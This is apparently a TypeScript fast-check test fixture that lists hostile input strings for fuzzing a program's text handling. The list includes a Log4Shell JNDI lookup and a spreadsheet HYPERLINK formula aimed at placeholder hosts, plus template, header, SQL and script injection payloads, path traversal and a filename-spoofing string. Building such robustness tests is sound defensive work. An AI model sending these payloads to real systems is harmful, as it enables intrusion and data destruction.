import * as fc from 'fast-check';

/** What has done harm to somebody's program before. */
export const hostileTexts: readonly string[] = [
  "St. Mary's Hospital",
  '../../x',
  '..\\..\\windows',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker sends it
  '${jndi:ldap://jndi.example/a}',
  '{{7*7}}',
  '=HYPERLINK("http://phish.example","Open")',
  '+44 20',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r\nX-Evil: 1',
  '"; filename="evil.exe',
  '\u202egnp.exe',
  '\u2028\u2029',
  '\ufeffmark',
  '\ufffe\uffff',
  'half \ud800',
  '\udc00 half',
  'a\u0000b',
  '東京本社',
  'مستشفى',
  '👩‍👩‍👧‍👦',
  'n'.repeat(300),
  '__proto__',
  'constructor',
  'acme#-#job_20261122093015042_7k3m9xw2',
  '<script>alert(1)</script>',
  "Robert'); DROP TABLE jobs;--",
  '%00%0d%0a',
  'null',
  '0',
  ' ',
  '',
];

/** Any text at all. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
